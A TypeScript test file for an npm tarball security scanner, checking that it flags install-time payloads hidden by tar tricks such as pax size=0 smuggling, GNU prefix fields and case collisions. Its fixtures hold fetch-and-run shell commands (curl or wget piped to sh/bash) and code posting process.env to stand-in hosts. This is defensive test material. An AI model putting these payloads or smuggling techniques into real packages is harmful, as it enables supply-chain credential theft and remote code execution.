/**
 * Archives that hide an install-time file from a tar reader that is not npm's (issue 9, point 1).
 * The hidden file is only visible when entries are split the way node-tar splits them; the
 * engine must see it, rate the package `critical` and name the file.
 */
import { gzipSync } from 'node:zlib';
import { analyzeTarball } from '../../../src/engine/index';
import { rawEntry, rawTarHeader, paxBody, tar, tgz } from './helpers';

const reasons = (r: { risk_reasons: string[] }) => r.risk_reasons.join('\n');
const END = Buffer.alloc(1024);

/** Install-time payload: downloads a script into a shell and posts the environment out. */
const INSTALL_JS = `const { execSync } = require('child_process');
const https = require('https');
execSync('curl -fsSL http://203.0.113.7/boot.sh | sh', { stdio: 'ignore' });
const body = JSON.stringify(process.env);
const req = https.request({ hostname: 'collect.example', path: '/e', method: 'POST' });
req.end(body);
`;
const PKG = JSON.stringify({
  name: 'pretty-logo',
  version: '2.0.1',
  main: 'index.js',
  scripts: { postinstall: 'node install.js' },
});
const entry = (name: string, data: string | Buffer) => rawEntry({ name }, data);
const LOGO = Buffer.from('\x89PNG\r\n\x1a\n fake image bytes', 'latin1');

/** pax `size=0`, then a ustar entry whose own size covers a second, embedded entry. */
function paxSizeZeroArchive(): Buffer {
  const hidden = entry('package/install.js', INSTALL_JS);
  return gzipSync(
    Buffer.concat([
      entry('package/package.json', PKG),
      entry('package/index.js', 'module.exports = () => "logo";\n'),
      rawEntry({ name: 'PaxHeader/logo.png', type: 'x' }, paxBody({ size: '0' })),
      rawTarHeader({ name: 'package/logo.png', size: hidden.length }),
      hidden,
      END,
    ]),
  );
}

/** GNU magic with a filled 155-byte prefix field: npm ignores the prefix, so the file lands at the root. */
function gnuPrefixArchive(): Buffer {
  return gzipSync(
    Buffer.concat([
      entry('package/package.json', PKG),
      rawEntry(
        { name: 'package/install.js', magic: 'gnu', prefix: `package/assets/${'img/'.repeat(35)}` },
        INSTALL_JS,
      ),
      entry('package/logo.png', LOGO),
      END,
    ]),
  );
}

function expectCriticalNaming(r: Awaited<ReturnType<typeof analyzeTarball>>, file: string): void {
  expect(r.risk_level).toBe('critical');
  expect(reasons(r)).toContain(`${file}:`);
  expect(r.agentic_threats.some((t) => t.location.startsWith(`${file}:`) && t.confidence >= 0.7)).toBe(true);
}

describe('files only npm sees are analysed (point 1)', () => {
  it('control: the payload in a plain archive is critical', async () => {
    const r = await analyzeTarball(
      tgz([
        { name: 'package/package.json', data: PKG },
        { name: 'package/install.js', data: INSTALL_JS },
        { name: 'package/logo.png', data: LOGO },
      ]),
    );
    expectCriticalNaming(r, 'install.js');
  });

  it('pax size=0 smuggling: install.js embedded in logo.png is found and rated critical', async () => {
    const r = await analyzeTarball(paxSizeZeroArchive());
    expect(r.stats.files).toBe(4);
    expect(r.evidence.some((f) => f.file === 'install.js')).toBe(true);
    expectCriticalNaming(r, 'install.js');
  });

  it('GNU header with a filled prefix: install.js is read at the path npm writes', async () => {
    const r = await analyzeTarball(gnuPrefixArchive());
    expectCriticalNaming(r, 'install.js');
    expect(r.evidence.filter((f) => f.install_time).map((f) => f.file)).toContain('install.js');
  });
});

describe('attacker rewrites of the same trick', () => {
  const SETUP = `'use strict';
const { exec } = require('node:child_process');
const send = require('./report.cjs');
function bootstrap(cb) {
  exec('wget -qO- http://198.51.100.23/s | bash', () => cb());
}
bootstrap(() => send(process.env));
`;
  const REPORT = `const http = require('node:http');
module.exports = function send(data) {
  const req = http.request('http://198.51.100.23/r', { method: 'POST' });
  req.write(Buffer.from(JSON.stringify(data)).toString('base64'));
  req.end();
};
`;
  const PKG2 = JSON.stringify({
    name: '@acme-internal/ui-kit',
    version: '1.4.0',
    scripts: { preinstall: 'node ./scripts/setup.cjs' },
  });

  it('two files embedded under a README whose pax size is 0, run from preinstall', async () => {
    const hidden = Buffer.concat([
      entry('package/scripts/setup.cjs', SETUP),
      entry('package/scripts/report.cjs', REPORT),
    ]);
    const r = await analyzeTarball(
      gzipSync(
        Buffer.concat([
          rawEntry({ name: 'PaxHeader/README.md', type: 'x' }, paxBody({ size: '0', mtime: '1700000000' })),
          rawTarHeader({ name: 'package/README.md', size: hidden.length }),
          hidden,
          entry('package/package.json', PKG2),
          END,
        ]),
      ),
    );
    expectCriticalNaming(r, 'scripts/setup.cjs');
    expect(r.evidence.some((f) => f.file === 'scripts/report.cjs')).toBe(true);
  });

  it('a corrupt header block before the payload does not stop reading (npm reads on)', async () => {
    const r = await analyzeTarball(
      gzipSync(
        Buffer.concat([
          entry('package/package.json', PKG2),
          rawTarHeader({ name: 'package/pad', size: 0, badChecksum: true }),
          entry('package/scripts/setup.cjs', SETUP),
          entry('package/scripts/report.cjs', REPORT),
          END,
        ]),
      ),
    );
    expectCriticalNaming(r, 'scripts/setup.cjs');
    expect(r.limits_hit).toContain('corrupt_tar_header');
  });

  it('an absolute entry name is analysed where npm writes it', async () => {
    const r = await analyzeTarball(
      gzipSync(
        tar([
          { name: 'package/package.json', data: PKG },
          { name: '/install.js', data: INSTALL_JS },
        ]),
      ),
    );
    expectCriticalNaming(r, 'install.js');
    expect(reasons(r)).toMatch(/unsafe path \(absolute path\)/);
  });

  it('names that differ only in case are both analysed and reported (one file on macOS and Windows)', async () => {
    const r = await analyzeTarball(
      gzipSync(
        tar([
          { name: 'package/package.json', data: PKG },
          { name: 'package/install.js', data: 'console.log("thanks for installing");\n' },
          { name: 'package/INSTALL.js', data: INSTALL_JS },
        ]),
      ),
    );
    expect(r.limits_hit).toContain('case_collision');
    expect(reasons(r)).toMatch(/install\.js and INSTALL\.js/);
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.some((f) => f.file === 'INSTALL.js')).toBe(true);
  });

  it('backslashes are read as folder separators, as npm on Windows writes them', async () => {
    const r = await analyzeTarball(
      gzipSync(
        tar([
          { name: 'package/package.json', data: PKG },
          { name: 'package\\install.js', data: INSTALL_JS },
        ]),
      ),
    );
    expectCriticalNaming(r, 'install.js');
  });

  it('gzip around something that is not tar: no entry, reported, and no crash', async () => {
    const r = await analyzeTarball(gzipSync(Buffer.from('just some text, '.repeat(200))));
    expect(r.stats.files).toBe(0);
    expect(r.limits_hit).toContain('not_tar');
    expect(r.risk_level).toBe('warning');
  });
});
